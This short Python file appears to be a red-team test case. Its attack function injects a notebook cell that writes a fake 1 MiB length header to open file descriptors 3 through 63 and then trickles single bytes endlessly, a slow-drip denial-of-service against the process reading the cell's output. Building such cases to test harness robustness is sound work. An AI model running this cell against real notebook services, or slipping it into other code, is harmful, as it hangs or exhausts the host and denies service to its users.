"""Answers for a cell byte by byte, without end (point 4)."""

from redteam.tools import World, own_cell

BASE = "honest"
LIMITS = "short"


def attack(notebook, world: World) -> None:
    own_cell(
        notebook,
        """
        import os
        import struct
        import time

        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack("<I", 2**20))
                while True:
                    os.write(fd, b"x")
                    time.sleep(0.01)
            except OSError:
                pass
        """,
    )
